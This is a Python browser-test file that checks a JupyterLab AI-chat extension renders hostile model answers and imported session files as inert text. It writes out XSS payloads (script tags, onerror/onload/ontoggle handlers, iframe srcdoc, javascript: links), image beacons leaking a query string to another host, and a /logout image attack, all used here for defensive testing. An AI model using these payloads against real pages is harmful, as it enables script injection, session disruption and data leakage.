"""Untrusted text renders inertly: nothing a model or a session file wrote runs, fetches or links out.

JupyterLab trusts live outputs (and ipywidgets' ``Output``): raw HTML in their Markdown is
inserted as it is, and its scripts are re-created so that they run. Each test first renders
the hostile Markdown through the page's own trusted Markdown renderer and sees every payload
run there, so a test cannot pass because a payload is broken; then it checks each oblix
surface: a ``%%oblix`` cell while it streams and when it is done, ``%oblix show``, the chat
panel, and a session imported from a file. Another host is a second loopback server on its
own port (another origin), which counts the requests that reach it. A page fetches an image
URL once and then reuses it, so the count speaks for the first surface that shows the image;
for every surface, no ``img`` may point there and a watch on the page's DOM records any
script, frame, ``on*`` handler, script link or other-origin source that is ever inserted,
also while an answer streams.
"""

from __future__ import annotations

import base64
import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from model_server import Behavior, ToolCall, split_pieces
from test_run_code_lab import TOOLS, box_of

pytestmark = pytest.mark.timeout(240)
LOAD = "%load_ext oblix_jupyter"
SETTLE_MS = 1_000  # for an image's error, a frame's script or a toggle event to have fired
RENDER_S = 30  # bound for a rendered output to show what is awaited
CONTROL = "/control/"  # the other host's paths fetched by the trusted control, not by oblix
END = "End of the answer."
ALT = "leaked chart"
# What each payload does when it runs: adds its name to a page-level list.
RUNS = "oblixRan"
# Payloads that run when Markdown is rendered as trusted HTML in this Chromium (checked by
# every test's control). The svg's onload does not fire for an element made by innerHTML.
RUN_WHEN_TRUSTED = ("split-img", "script", "img", "iframe", "details")
# The raw HTML that must show as characters; the answer's whitespace is normalised first.
LITERALS = (
    "<script>",
    "<img src=x onerror=",
    "<svg onload=",
    "<iframe srcdoc=",
    "<details open ontoggle=",
    '<a href="javascript:',
)
DOCS = "https://docs.python.org/3/library/functions.html#sum"
NORMAL = f"""## Results

The totals, **as asked**:

| name | value |
|------|-------|
| alpha | 1 |
| beta | 2 |

```python
def total(values):
    if len(values) < 2:
        return values[0]
    return sum(values)
```

- see [the sum docs]({DOCS})
- write `<br>` for a line break

Done, with $x^2 + 1$.
"""

# Every element and link that would let an output run code or reach another origin.
WATCH_LIVE_HTML = """async () => {
    const found = window.liveHtml = [];
    const roots = [jupyterapp.shell.currentWidget.node, document.querySelector('#jp-right-stack')].filter(Boolean);
    const describe = (el) => {
        const tag = el.tagName.toLowerCase(), problems = [];
        if (['script', 'iframe', 'frame', 'object', 'embed'].includes(tag)) problems.push(tag);
        for (const attr of el.attributes) if (/^on/i.test(attr.name)) problems.push(`${tag}[${attr.name}]`);
        if (el instanceof HTMLAnchorElement && ['javascript:', 'data:', 'vbscript:'].includes(el.protocol))
            problems.push(`a[href=${el.protocol}...]`);
        for (const name of ['src', 'srcset', 'srcdoc', 'data', 'poster']) {
            const value = el.getAttribute(name);
            if (value === null || tag === 'script') continue;
            let origin = 'unparsable';
            try { origin = new URL(value.split(/[\\s,]/)[0], document.baseURI).origin; } catch (_) {}
            if (name === 'srcdoc' || origin !== location.origin) problems.push(`${tag}[${name}=${value.slice(0, 60)}]`);
        }
        return problems;
    };
    const check = (node) => {
        if (node.nodeType !== Node.ELEMENT_NODE) return;
        for (const el of [node, ...node.querySelectorAll('*')])
            for (const problem of describe(el)) if (!found.includes(problem)) found.push(problem);
    };
    roots.forEach(check);
    const observer = new MutationObserver((records) => {
        for (const record of records) record.type === 'attributes' ? check(record.target) : record.addedNodes.forEach(check);
    });
    roots.forEach((root) => observer.observe(root, { subtree: true, childList: true, attributes: true }));
}"""

# The page's Markdown renderer with trust, as JupyterLab renders a live output.
RENDER_TRUSTED = """async (markdown) => {
    const renderer = jupyterapp.shell.currentWidget.content.rendermime.createRenderer('text/markdown');
    const box = document.createElement('div');
    box.id = 'oblix-trusted-control';
    box.style.cssText = 'position: fixed; left: -3000px; top: 0; width: 800px;';
    document.body.appendChild(box);
    box.appendChild(renderer.node);  // before rendering: scripts run only in the document
    await renderer.renderModel({ trusted: true, data: { 'text/markdown': markdown }, metadata: {}, setData() {} });
}"""

BAD_LINKS = """(node) => [...node.querySelectorAll('a')]
    .filter((a) => ['javascript:', 'data:', 'vbscript:'].includes(a.protocol)
                   || /^\\s*javascript:/i.test(a.getAttribute('href') || ''))
    .map((a) => a.getAttribute('href'))"""


def mark(name: str, scope: str = "window") -> str:
    """JavaScript that records that the payload ``name`` ran."""
    return f"({scope}.{RUNS}={scope}.{RUNS}||[]).push('{name}')"


def hostile_pieces(elsewhere: str) -> list[str]:
    """An answer carrying every payload, as the chunks the model server streams.

    ``elsewhere`` is the other host's address; with a token delay each chunk is its own
    display update, so the first two chunks show half an ``<img>`` tag and then all of it.
    """
    return [
        "Here is what you asked for.\n\nSplit across chunks: <im",
        f'g src=x onerror="{mark("split-img")}"> (one tag, two chunks).\n\n',
        f"<script>{mark('script')}</script>\n\n",
        f'Image: <img src=x onerror="{mark("img")}">\n\n',
        f'Vector: <svg onload="{mark("svg")}"><rect width="4" height="4"/></svg>\n\n',
        f'Frame: <iframe srcdoc="<script>{mark("iframe", "parent")}</script>"></iframe>\n\n',
        f'Toggle: <details open ontoggle="{mark("details")}"><summary>more</summary>hidden</details>\n\n',
        f'Links: <a href="javascript:{mark("js-html")}">html link</a>, [markdown link](javascript:{mark("js-md")}), ',
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==), [vb link](vbscript:msgbox(1)).\n\n",
        f'Tracking: ![{ALT}]({elsewhere}/leak.png?q=secret) and <img src="{elsewhere}/raw-leak.png">\n\n',
        END,
    ]


def hostile_session(elsewhere: str) -> dict[str, Any]:
    """A session file in the seed's shape whose every shown text field carries a payload."""
    return {
        "id": "0b11c5e5-0000-4000-8000-000000000014",
        "title": f'Hostile <img src=x onerror="{mark("title")}">',
        "created_at": "2025-03-01T10:00:00Z",
        "updated_at": "2025-03-01T10:01:00Z",
        "messages": [
            {
                "id": "msg_1",
                "role": "user",
                "content": f'Question <img src=x onerror="{mark("user-img")}">',
                "timestamp": "2025-03-01T10:00:00Z",
            },
            {
                "id": "msg_2",
                "role": "assistant",
                "content": "".join(hostile_pieces(elsewhere)),
                "model": f'model <img src=x onerror="{mark("model-field")}">',
                "status": f'<img src=x onerror="{mark("status-field")}">',
                "timestamp": "2025-03-01T10:01:00Z",
            },
        ],
        "context": {},
        "model": "openai/test-model",
        "metadata": {},
    }


class OtherHost:
    """A loopback server on a port of its own (another origin): it counts the requests that reach it."""

    PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==")  # a 1x1 GIF

    def __init__(self) -> None:
        self.paths: list[str] = []
        self._lock = threading.Lock()
        host = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with host._lock:
                    host.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(host.PIXEL)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(host.PIXEL)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._httpd.server_address[1]}"
        self._thread = threading.Thread(target=self._httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self._thread.start()

    def leaks(self) -> list[str]:
        """What reached this host, other than the control's requests."""
        with self._lock:
            return [path for path in self.paths if not path.startswith(CONTROL)]

    def control_requests(self) -> list[str]:
        with self._lock:
            return [path for path in self.paths if path.startswith(CONTROL)]

    def reset(self) -> None:
        with self._lock:
            self.paths.clear()

    def stop(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()


@pytest.fixture(scope="module")
def other_host_server() -> Iterator[OtherHost]:
    server = OtherHost()
    yield server
    server.stop()


@pytest.fixture
def other_host(other_host_server: OtherHost) -> OtherHost:
    other_host_server.reset()
    return other_host_server


# -- evidence ------------------------------------------------------------------------


def prove_payloads_run_when_trusted(jlab: Any, other_host: OtherHost) -> None:
    """The control: rendered as trusted Markdown by this page, the payloads run, link out and fetch.

    Then every trace of the control is cleared, and the watch for live HTML begins.
    """
    jlab.evaluate(RENDER_TRUSTED, "".join(hostile_pieces(other_host.url + CONTROL.rstrip("/"))))

    def ran() -> set[str]:
        return set(jlab.page.evaluate(f"() => window.{RUNS} || []"))

    try:
        jlab.wait_until(lambda: set(RUN_WHEN_TRUSTED) <= ran(), 15, "the control's payloads")
    except AssertionError:
        raise AssertionError(f"as trusted Markdown the payloads {RUN_WHEN_TRUSTED} should run; ran: {sorted(ran())}") from None
    jlab.wait_until(other_host.control_requests, 15, "the control's image on the other host to be fetched")
    control = jlab.page.locator("#oblix-trusted-control")
    assert control.locator('a[href^="javascript:" i]').count() == 2, "the control's javascript: links are live"
    jlab.page.evaluate(f"() => {{ document.getElementById('oblix-trusted-control').remove(); delete window.{RUNS}; }}")
    other_host.reset()
    jlab.evaluate(WATCH_LIVE_HTML)


def clear_evidence(jlab: Any, other_host: OtherHost) -> None:
    """Start the next surface's checks afresh (the previous one's findings are kept by the caller)."""
    jlab.page.evaluate(f"() => {{ delete window.{RUNS}; window.liveHtml.length = 0; }}")
    other_host.reset()


def inert_problems(jlab: Any, area: Any, other_host: OtherHost, where: str) -> list[str]:
    """Everything that shows the hostile answer in ``area`` was not rendered inertly."""
    jlab.page.wait_for_timeout(SETTLE_MS)
    problems = []
    ran = jlab.page.evaluate(f"() => window.{RUNS} || []")
    if ran:
        problems.append(f"{where}: payloads ran: {sorted(set(ran))}")
    live = jlab.page.evaluate("() => [...window.liveHtml]")
    if live:
        problems.append(f"{where}: live HTML was put in the page: {live}")
    if other_host.leaks():
        problems.append(f"{where}: requests reached another host: {sorted(set(other_host.leaks()))}")
    if area.locator("a", has_text=ALT).count() == 0:
        problems.append(f"{where}: the image on another host is not a link showing its alt text {ALT!r}")
    images = area.evaluate(
        "(node, url) => [...node.querySelectorAll('img')].map((i) => i.getAttribute('src')).filter((s) => s && s.startsWith(url))",
        other_host.url,
    )
    if images:
        problems.append(f"{where}: images from another host: {images}")
    links = area.evaluate(BAD_LINKS)
    if links:
        problems.append(f"{where}: clickable script links: {links}")
    text = " ".join((area.text_content() or "").split())
    missing = [literal for literal in LITERALS if literal not in text]
    if missing:
        problems.append(f"{where}: raw HTML not shown as text: {missing}")
    return problems


def formatting_problems(area: Any, where: str) -> list[str]:
    """What of the normal answer in ``area`` did not render as formatted Markdown."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    def shows(selector: str, text: str | None = None) -> bool:
        try:
            area.locator(selector, has_text=text).first.wait_for(timeout=5_000)
            return True
        except PlaywrightTimeout:
            return False

    problems = [
        f"{where}: no {selector} showing {text!r}"
        for selector, text in [
            ("h2", "Results"),
            ("strong", "as asked"),
            ("table th", "name"),
            ("table th", "value"),
            ("table td", "alpha"),
            ("pre code", "return sum(values)"),
            (f'a[href="{DOCS}"]', "the sum docs"),
            ("li", "write"),
            ("mjx-container", None),
        ]
        if not shows(selector, text)
    ]
    if not shows("pre code span"):
        problems.append(f"{where}: the python code block is not highlighted")
    code = area.locator("pre code").first.text_content() if shows("pre code") else ""
    if "if len(values) < 2:" not in (code or ""):
        problems.append(f"{where}: the code block does not read 'if len(values) < 2:' ({code!r})")
    inline = [c for c in area.locator(":not(pre) > code").all_text_contents() if "br" in c]
    if inline != ["<br>"]:
        problems.append(f"{where}: the inline code is {inline!r}, not ['<br>']")
    return problems


def wait_for_text(jlab: Any, area: Any, needed: str, what: str) -> str:
    """Wait until ``area`` shows ``needed`` and no streaming cursor; returns its text."""

    def final() -> str:
        text = area.inner_text() if area.count() else ""
        return text if needed in text and "▌" not in text else ""

    return jlab.wait_until(final, RENDER_S, what)


def half_tag_was_shown(jlab: Any, name: str) -> bool:
    """Among the texts recorded in ``window[name]``, one ended in the first chunk's ``<im``."""
    return any(re.search(r"<im\s*▌", text) for text in jlab.recorded(name))


def ask_in_panel(jlab: Any, chat: Any, prompt: str, answers: int, needed: str) -> Any:
    """Send ``prompt`` from the panel; returns its answer (the ``answers``-th) once it is stored."""
    chat.locator(".oblix-input textarea").fill(prompt)
    chat.locator("button.oblix-send").click()
    answer = chat.locator(".oblix-scroll .oblix-assistant").nth(answers - 1)
    wait_for_text(jlab, answer, needed, f"the panel's answer to {prompt!r}")
    chat.locator("button.oblix-send:not([disabled])").wait_for()
    return answer


# -- the surfaces --------------------------------------------------------------------


def test_an_oblix_cell_and_show_render_a_hostile_answer_inertly(jlab, server, other_host):
    server.enqueue(Behavior(pieces=hostile_pieces(other_host.url), token_delay=0.15), Behavior(reply=NORMAL))
    cells_sources = [LOAD, "%%oblix\nshow me the tricks", "%%oblix\nsummarise the results", "%oblix show"]
    jlab.lab.write_notebook("inert/cell.ipynb", cells_sources)
    jlab.open_notebook("inert/cell.ipynb")
    prove_payloads_run_when_trusted(jlab, other_host)
    cells = jlab.page.locator(".jp-Notebook .jp-Cell")
    jlab.run_cell(0)

    jlab.record_changes(".jp-Notebook .jp-Cell:nth-child(2) .jp-Cell-outputWrapper", "answerTexts")
    jlab.run_cell(1)
    answer = cells.nth(1).locator(".jp-Cell-outputWrapper")
    wait_for_text(jlab, answer, END, "the final answer in the cell")
    problems = inert_problems(jlab, answer, other_host, "%%oblix cell (streamed, then final)")
    assert half_tag_was_shown(jlab, "answerTexts"), "a display update showed the first chunk's half tag '<im'"
    assert len(jlab.recorded("answerTexts")) >= 5, "the answer streamed in several display updates"

    clear_evidence(jlab, other_host)
    jlab.run_cell(2)
    normal = cells.nth(2).locator(".jp-Cell-outputWrapper")
    wait_for_text(jlab, normal, "Done, with", "the normal answer")
    problems += formatting_problems(normal, "%%oblix cell, normal answer")

    clear_evidence(jlab, other_host)
    jlab.run_cell(3)
    shown = cells.nth(3).locator(".jp-Cell-outputWrapper")
    wait_for_text(jlab, shown, END, "%oblix show")
    problems += inert_problems(jlab, shown, other_host, "%oblix show")
    assert not problems, "\n".join(problems)


def test_the_chat_panel_renders_a_hostile_answer_inertly(jlab, server, other_host):
    server.enqueue(Behavior(pieces=hostile_pieces(other_host.url), token_delay=0.15), Behavior(reply=NORMAL))
    jlab.lab.write_notebook("inert/panel.ipynb", [LOAD])
    jlab.open_notebook("inert/panel.ipynb")
    prove_payloads_run_when_trusted(jlab, other_host)
    jlab.run_cell(0)
    chat = jlab.chat_from_toolbar()
    chat.wait_for()
    conversation = chat.locator(".oblix-scroll")

    jlab.record_changes("#jp-right-stack .jp-OblixChat .oblix-scroll", "panelTexts")
    ask_in_panel(jlab, chat, "show me the tricks", answers=1, needed=END)
    problems = inert_problems(jlab, conversation, other_host, "chat panel (streamed, then stored)")
    assert half_tag_was_shown(jlab, "panelTexts"), "a panel update showed the first chunk's half tag '<im'"

    clear_evidence(jlab, other_host)
    normal = ask_in_panel(jlab, chat, "summarise the results", answers=2, needed="Done, with")
    problems += formatting_problems(normal, "chat panel, normal answer")
    assert not problems, "\n".join(problems)


def test_an_imported_hostile_session_shows_inertly(jlab, server, other_host):
    session_file = jlab.lab.work / "inert" / "hostile-session.json"
    session_file.parent.mkdir(parents=True, exist_ok=True)
    session_file.write_text(json.dumps(hostile_session(other_host.url), indent=1))
    jlab.lab.write_notebook("inert/imported.ipynb", [LOAD, f"%oblix import {session_file}", "%oblix show", "%oblix chat"])
    jlab.open_notebook("inert/imported.ipynb")
    prove_payloads_run_when_trusted(jlab, other_host)
    cells = jlab.page.locator(".jp-Notebook .jp-Cell")
    jlab.run_cell(0)
    jlab.run_cell(1)
    imported = wait_for_text(jlab, cells.nth(1).locator(".jp-Cell-outputWrapper"), "Imported session", "the import")
    prefix = re.search(r"Imported session ([0-9a-f]{8})", imported).group(1)

    jlab.run_cell(2)
    shown = cells.nth(2).locator(".jp-Cell-outputWrapper")
    wait_for_text(jlab, shown, END, "%oblix show of the imported session")
    problems = inert_problems(jlab, shown, other_host, "%oblix show, imported session")

    clear_evidence(jlab, other_host)
    jlab.set_cell(3, f"%oblix use {prefix}\n%oblix chat")
    jlab.run_cell(3)
    conversation = cells.nth(3).locator(".oblix-chat .oblix-scroll")
    wait_for_text(jlab, conversation, END, "the imported session in the chat panel")
    problems += inert_problems(jlab, conversation, other_host, "chat panel, imported session")
    assert not problems, "\n".join(problems)
    assert not server.chat_requests(), "showing a session asks no model"


def test_the_static_copy_kept_for_the_saved_notebook_is_inert(jlab, server, other_host):
    """An answer that goes on below an approval box is also kept as a static copy (keep_output): trusted HTML in this page."""
    server.enqueue(
        Behavior(tool_calls=[ToolCall("run_code", {"code": "probe = 1", "reason": "to check"})]),
        Behavior(pieces=hostile_pieces(other_host.url), token_delay=0.02),
    )
    jlab.lab.write_notebook("inert/kept.ipynb", [TOOLS, LOAD, "%%oblix\nshow me the tricks"])
    jlab.open_notebook("inert/kept.ipynb")
    prove_payloads_run_when_trusted(jlab, other_host)
    for cell in range(3):
        jlab.run_cell(cell)
    output = jlab.output_locator(2).first
    box = box_of(output)
    box.wait_for()
    box.locator("button.oblix-run").click()
    wait_for_text(jlab, output, END, "the answer continued below the box")
    jlab.wait_until(lambda: output.locator(".oblix-kept").count() == 1, 10, "the static copy to be kept")
    problems = inert_problems(jlab, output, other_host, "the answer continued below the box")

    clear_evidence(jlab, other_host)
    jlab.evaluate("async () => { for (const view of document.querySelectorAll('.oblix-handoff')) view.remove(); }")
    copy = output.locator(".oblix-kept")
    copy.wait_for()  # shown now that the live widgets are gone, as a reader of the saved file sees it
    problems += inert_problems(jlab, copy, other_host, "the static copy")
    assert not problems, "\n".join(problems)


# -- images: nothing is requested, from another host or from the Jupyter server ------

PROBE = "oblix-probe"  # in every address the answer's images name, so their requests are known
GIF = "data:image/gif;base64," + base64.b64encode(OtherHost.PIXEL).decode()


def image_answer(elsewhere: str) -> str:
    """An answer whose every image syntax names the Jupyter server itself or another host.

    ``/logout`` is the real attack (a GET logs the user out); the other addresses carry
    ``PROBE`` so that any request for them stands out among JupyterLab's own.
    """
    return "\n\n".join(
        [
            "Pictures, as asked.",
            "![log out](/logout)",
            f"![server api](../api/contents/{PROBE}-api.png) and ![files view](files/{PROBE}-file.png)",
            f"![root relative](/{PROBE}-root.png) ![protocol relative](//{elsewhere.removeprefix('http://')}/{PROBE}-proto.png)",
            f"![backslash host](\\\\{elsewhere.removeprefix('http://')}/{PROBE}-backslash.png)",
            f"![by reference][probe]\n\n[probe]: /{PROBE}-reference.png",
            f'Raw: <img src="/{PROBE}-raw.png" srcset="/{PROBE}-srcset.png 2x"> '
            f'<picture><source srcset="/{PROBE}-picture.png"></picture>',
            f"Autolinks: <{elsewhere}/{PROBE}-autolink.png> and {elsewhere}/{PROBE}-bare.png",
            f"[![inside a link](/{PROBE}-nested.png)](https://example.invalid/)",
            f"| chart |\n|---|\n| ![in a table](/{PROBE}-table.png) |",
            f"![other host]({elsewhere}/{PROBE}-other.png?q=secret)",
            f"Inline, allowed: ![a dot]({GIF})",
            END,
        ]
    )


IMAGE_ALTS = (
    "log out", "server api", "files view", "root relative", "protocol relative", "backslash host",
    "by reference", "inside a link", "in a table", "other host",
)  # fmt: skip


def test_no_image_in_an_answer_makes_the_browser_request_anything(jlab, server, other_host):
    requests: list[str] = []
    jlab.page.on("request", lambda request: requests.append(request.url))
    answer_text = image_answer(other_host.url)
    server.enqueue(Behavior(pieces=split_pieces(answer_text), token_delay=0.01))
    jlab.lab.write_notebook("inert/images.ipynb", [LOAD, "%%oblix\nshow me pictures", "%oblix show"])
    jlab.open_notebook("inert/images.ipynb")

    # The control: as trusted Markdown, the same answer (with its probes renamed) requests them.
    # Its addresses start with CONTROL, so a control request that reaches the other host late is not a leak.
    control = CONTROL + "image"
    jlab.evaluate(RENDER_TRUSTED, answer_text.replace(PROBE, control.lstrip("/")).replace("/logout", control + "-logout"))
    jlab.wait_until(lambda: [url for url in requests if control in url], 15, "the control's images to be requested")
    assert f"{other_host.url}{control}-other.png?q=secret" in requests, requests
    jlab.page.evaluate("() => document.getElementById('oblix-trusted-control').remove()")
    other_host.reset()
    requests.clear()

    cells = jlab.page.locator(".jp-Notebook .jp-Cell")
    jlab.run_cell(0)
    problems = []
    for index, where in ((1, "%%oblix cell (streamed, then final)"), (2, "%oblix show")):
        jlab.run_cell(index)
        area = cells.nth(index).locator(".jp-Cell-outputWrapper")
        wait_for_text(jlab, area, END, where)
        jlab.page.wait_for_timeout(SETTLE_MS)
        fetched = [url for url in requests if PROBE in url or url.split("?")[0].endswith("/logout")]
        if fetched or other_host.leaks():
            problems.append(f"{where}: the browser requested {sorted(set(fetched + other_host.leaks()))}")
        missing = [alt for alt in IMAGE_ALTS if area.locator("a", has_text=alt).count() == 0]
        if missing:
            problems.append(f"{where}: images not shown as links with their alt text: {missing}")
        images = area.evaluate("(node) => [...node.querySelectorAll('img, source, image')].map((i) => i.getAttribute('src') || i.getAttribute('srcset'))")
        if images != [GIF]:
            problems.append(f"{where}: image elements {images}, expected only the inline GIF")
    jlab.screenshot("inert-images")
    assert not problems, "\n".join(problems)
    assert "/logout" not in " ".join(requests), "the session was not logged out"
